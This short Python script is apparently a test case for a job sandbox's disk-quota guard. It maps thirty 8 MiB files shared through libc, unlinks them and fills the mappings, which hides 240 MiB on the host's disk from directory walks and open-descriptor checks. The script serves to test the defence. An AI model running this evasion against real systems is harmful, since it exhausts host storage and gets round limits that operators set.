# Attack: keep bytes in /output with neither a name nor a descriptor. Size
# thirty files of 8 MiB (each under the 10 MiB per-file cap, and only one
# named at a time, under the 100 MiB total), map each shared, close it and
# remove its name, then fill them through the mappings: 240 MiB allocated
# on the host's disk that no walk of /output and no look at the job's open
# descriptors sees.
# Contained when the guard charges what the job's processes map of files
# whose names are gone: the job is stopped over the total cap, and the host
# never holds more than the cap.
# Prints "WROTE <MiB>" after each MiB, so the answer shows how far it got.
# libc's mmap through ctypes: Python's mmap module keeps a duplicate of the
# descriptor, which a look at open descriptors would find.
import ctypes, mmap, os, time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                      ctypes.c_int, ctypes.c_long]
SIZE = 8 << 20
maps = []
for i in range(30):
    path = "/output/m%d" % i
    fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
    os.ftruncate(fd, SIZE)
    at = libc.mmap(None, SIZE, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED, fd, 0)
    if at in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap")
    maps.append(at)
    os.close(fd)
    os.unlink(path)
chunk = b"x" * (1 << 20)
written = 0
for base in maps:
    for offset in range(0, SIZE, 1 << 20):
        ctypes.memmove(base + offset, chunk, len(chunk))
        written += 1
        print("WROTE", written, flush=True)
time.sleep(3)
print("done", flush=True)
